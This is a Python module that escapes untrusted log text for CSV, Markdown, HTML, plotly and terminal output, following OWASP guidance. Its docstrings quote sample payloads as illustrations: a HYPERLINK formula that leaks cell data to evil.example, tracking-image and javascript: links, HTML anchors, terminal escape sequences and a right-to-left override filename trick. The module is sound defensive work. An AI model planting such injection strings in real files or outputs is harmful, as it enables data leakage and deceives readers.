"""Log text made safe for the places it is shown: CSV, Markdown, HTML, plotly, the terminal.

Logs are untrusted input: anyone who can make a service log a line (a request path, a
user name, a CI job's executor name) writes into our outputs. Each rule below says what
it guards against and which OWASP guidance it follows. Every output path uses these
functions; none escapes on its own.
"""

from __future__ import annotations

import re
from html import escape as _html_escape
from typing import Any

import polars as pl

# --- CSV ---------------------------------------------------------------------------------

#: A cell that starts with one of these is read as a formula by spreadsheet programs.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> str:
    """A CSV cell that a spreadsheet will show as text, never run as a formula.

    OWASP, *CSV Injection*: a cell beginning with ``=``, ``+``, ``-``, ``@``, tab or
    carriage return is a formula to Excel, LibreOffice and Google Sheets
    (``=HYPERLINK("http://evil.example?"&A1, "click")`` leaks data; DDE formulas run
    programs). The guidance is to prefix such cells with a single quote, which the
    spreadsheet takes as "this is text" and hides; quoting the field alone is not enough.
    The writer's own quoting then handles commas, quotes and line breaks.

    >>> csv_cell('=HYPERLINK("http://evil.example")'), csv_cell("-5 retries"), csv_cell("ok")
    ('\\'=HYPERLINK("http://evil.example")', "'-5 retries", 'ok')
    """
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_safe(frame: pl.DataFrame | pl.LazyFrame) -> pl.DataFrame | pl.LazyFrame:
    """``frame`` with every string cell passed through the :func:`csv_cell` rule.

    Only string columns change: numbers and times are written by the CSV writer as
    values, and a negative number is data, not a formula, in a numeric column.
    """
    starts = "^[" + re.escape("".join(FORMULA_STARTS)) + "]"
    return frame.with_columns(
        pl.when(pl.col(pl.String).str.contains(starts))
        .then(pl.lit("'") + pl.col(pl.String))
        .otherwise(pl.col(pl.String))
        .name.keep()
    )


# --- Markdown ----------------------------------------------------------------------------

#: A `code span` the report writes itself: one backtick each side, none next to it (a
#: renderer pairs runs of backticks by their length, so ````x``` is no span of ``x``),
#: kept as it is.
CODE_SPAN = re.compile(r"((?<!`)`[^`]+`(?!`))")
#: What Markdown would read as syntax in prose: a backslash, a backtick that opens no
#: span of ours, a tag's ``<``, an entity's ``&``, emphasis, links and images, table
#: pipes, strike-through, a heading or quote at the start. Everything else (``->``,
#: ``x_y``, ``a > b``) is left as people write it.
_MARKDOWN_SPECIAL = re.compile(
    r"\\|`|<(?=[A-Za-z/!?])|&(?=#?\w+;)|[*\[\]|]|(?<![A-Za-z0-9])_|_(?![A-Za-z0-9])|~(?=~)|^[#>]"
)
#: What GitHub, GitLab and Slack turn into a notification or a link in prose: a mention
#: (``@octocat``, ``@acme/sre-oncall``) and an issue reference (``#1``, ``GH-1``).
_MENTION = re.compile(
    r"(?<![\w`/])(@[A-Za-z0-9][A-Za-z0-9-]*(?:/[A-Za-z0-9_.-]+)?|#[0-9]+|GH-[0-9]+)\b"
)


def markdown_text(value: Any) -> str:
    r"""Text that renders as the same text in Markdown, never as markup.

    OWASP, *Cross Site Scripting Prevention* (output encoding for the context): a
    Markdown report is read in renderers that allow inline HTML and fetch images, so
    ``![t](http://evil.example/x.png)`` in a change log would load a tracking image and
    ``[click](javascript:...)`` would be a live link. Every character that would open a
    tag, an entity, a link, an image, emphasis, a code span or a table cell gets a
    backslash (CommonMark then shows it literally), so no HTML entity is needed and the
    text still reads well where it is pasted as plain text. `Code spans` the report
    itself writes are kept, their pipes escaped (GitHub ends a table cell at a pipe even
    in a span). Line breaks, CR included, would end a table row or a list item and let
    the rest of the text stand as its own Markdown: they become spaces. No web address
    becomes a link (an autolink would take in the escapes after it). Mentions and issue
    references are set as code, so that a pasted report pings no one; control characters
    are shown as escapes (:func:`terminal_text`).

    >>> print(markdown_text("![t](http://evil.example/x.png) | a\r<b> -> `A <NAME>`"))
    !\[t\](http\://evil.example/x.png) \| a \<b> -> `A <NAME>`
    >>> print(markdown_text("```![t](x.png)` cc @acme/sre #12 www.evil.example"))
    \`\`\`!\[t\](x.png)\` cc `@acme/sre` `#12` www\.evil.example
    """
    text = terminal_text(" ".join(("" if value is None else str(value)).split()))
    parts = CODE_SPAN.split(text)
    return "".join(
        part.replace("|", "\\|") if i % 2 else _prose(part) for i, part in enumerate(parts)
    )


#: Where GitHub's autolinks begin (``http://``, ``www.``): an autolink takes in what
#: follows, a backslash that escapes a ``<`` included, so none may start.
_AUTOLINK = re.compile(r"(?i)\b(https?|ftp)(:)(?=//)|\b(www)(\.)")


def _prose(text: str) -> str:
    escaped = _MARKDOWN_SPECIAL.sub(lambda m: "\\" + m.group(0), text)
    escaped = _AUTOLINK.sub(lambda m: "\\".join(g for g in m.groups() if g), escaped)
    return _MENTION.sub(lambda m: f"`{m.group(0)}`", escaped)


def markdown_code(value: Any) -> str:
    r"""Text for inside a Markdown code span (in a table cell).

    A code span shows its content literally, except that a backtick ends it and, in a
    table, a pipe ends the cell; CR and LF end the row. Backticks become ``'``, pipes are
    escaped, CR and LF become spaces: the text can never leave its span (OWASP: encode
    for the exact context the data lands in).

    >>> markdown_code("a`b|c\rd")
    "a'b\\|c d"
    """
    text = terminal_text(_one_line("" if value is None else str(value)))
    return text.replace("`", "'").replace("|", "\\|")


def _one_line(text: str) -> str:
    return text.replace("\r\n", " ").replace("\r", " ").replace("\n", " ")


# --- plotly ------------------------------------------------------------------------------


def plotly_text(value: Any) -> str:
    """Text for any string plotly renders: trace and legend names, titles, axis titles,
    annotations and hover text.

    Plotly renders a subset of HTML in all of these (``<a href>``, ``<b>``, ``<br>``,
    ``<span style>``), so an executor name ``<a href="http://evil.example">X</a>`` would be
    a live link in the legend. OWASP, *Cross Site Scripting Prevention*, rule 1: HTML-encode
    untrusted data before it enters an HTML context. Plotly decodes ``&lt;``, ``&gt;``
    and ``&amp;`` when it draws the text, so the reader sees the original characters as
    plain text. Quotes are left as they are: with no ``<`` no tag, and so no attribute,
    can begin, and plotly would show ``&quot;`` literally.

    Characters a reader cannot see or that reorder what is seen are shown as escapes
    first (:func:`html_text`).

    >>> plotly_text('<a href="http://evil.example">X</a>')
    '&lt;a href="http://evil.example"&gt;X&lt;/a&gt;'
    """
    return _html_escape(html_text(value), quote=False)


# --- HTML --------------------------------------------------------------------------------


def html_text(value: Any) -> str:
    r"""Text for a web page (before its HTML escaping): the characters
    :func:`terminal_text` escapes but line feed, shown as escapes.

    A browser draws no control character, so ``backspace\x08\x08\x08XX`` would show as
    ``backspaceXX``, and it obeys the bidirectional overrides and isolates: a right-to-left
    override makes ``gol.exe`` read as ``exe.log`` (the Trojan Source trick). A reader must
    see what the log holds, as the terminal and Markdown show it; a line feed is kept, for
    the lines of a record shown whole.

    >>> html_text("a\nb\u202egol.exe\x1b[2J")
    'a\nb\\u202egol.exe\\x1b[2J'
    """
    text = "" if value is None else str(value)
    return _HTML_UNSEEN.sub(_escaped, text)


# --- terminal ----------------------------------------------------------------------------

#: DEL and the C1 controls, lone surrogates (undecodable bytes), and the characters that
#: reorder text on screen (bidirectional overrides and isolates).
_BEYOND_C0 = r"\x7f-\x9f\ud800-\udfff\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069"
#: Those and the C0 controls but tab.
_CONTROL = re.compile(rf"[\x00-\x08\x0a-\x1f{_BEYOND_C0}]")


def terminal_text(value: Any) -> str:
    r"""Text safe to print on a terminal: control characters shown as escapes.

    OWASP, *Log Injection* / terminal escape injection: ESC sequences in a file name or log
    line can clear the screen (``\x1b[2J``), retitle the window (``\x1b]0;...\a``), set
    the clipboard (OSC 52) or hide a link (OSC 8); a line feed in a file name fakes a
    line of output; a right-to-left override makes ``gol.exe`` read as ``exe.log``. Every
    C0 and C1 control character except tab, DEL and those reordering characters are shown
    as visible escapes (``\x1b``, ``\u202e``) instead of being sent. So is each byte of a
    file name that is not UTF-8 (kept as a lone surrogate by Python's
    ``surrogateescape``), which a terminal could not be sent at all.

    >>> terminal_text("bad\x1b[2Jname\x07.log"), terminal_text("bad\udcff.log")
    ('bad\\x1b[2Jname\\x07.log', 'bad\\xff.log')
    >>> terminal_text("a\nb\u202egol.exe")
    'a\\x0ab\\u202egol.exe'
    """
    text = "" if value is None else str(value)
    return _CONTROL.sub(_escaped, text)


def _escaped(found: re.Match) -> str:
    code = ord(found.group())
    if code < 0x100 or 0xD800 <= code <= 0xDFFF:
        return f"\\x{code & 0xFF:02x}"
    return f"\\u{code:04x}"


def json_text(data: Any, **options: Any) -> str:
    """``json.dumps`` of ``data`` (UTF-8 kept) with the characters :func:`terminal_text`
    escapes written as ``\\u`` escapes: the same JSON to a reader, nothing a terminal
    acts on when it is printed (JSON itself escapes only the C0 controls)."""
    import json

    text = json.dumps(data, ensure_ascii=False, **options)
    return _JSON_UNSAFE.sub(lambda m: f"\\u{ord(m.group()):04x}", text)


#: What :func:`html_text` escapes: :data:`_CONTROL` but line feed.
_HTML_UNSEEN = re.compile(rf"[\x00-\x08\x0b-\x1f{_BEYOND_C0}]")

#: What :func:`json_text` escapes: :data:`_CONTROL` but the C0 controls, which JSON
#: escapes in strings itself and whose line feeds lay its text out.
_JSON_UNSAFE = re.compile(rf"[{_BEYOND_C0}]")
